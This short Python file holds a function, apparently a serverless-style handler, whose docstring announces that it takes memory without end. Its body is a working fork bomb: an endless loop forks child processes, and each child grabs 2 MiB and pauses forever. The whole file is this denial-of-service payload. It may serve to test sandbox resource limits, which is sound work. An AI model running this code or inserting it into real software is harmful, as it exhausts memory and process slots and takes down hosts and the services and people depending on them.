"""Take memory without end, in little pieces, from children that do nothing else."""

import os
import signal


def handler(event, context):
    while True:
        if os.fork() == 0:
            taken = b"x" * (2 << 20)
            signal.pause()
            os._exit(len(taken))
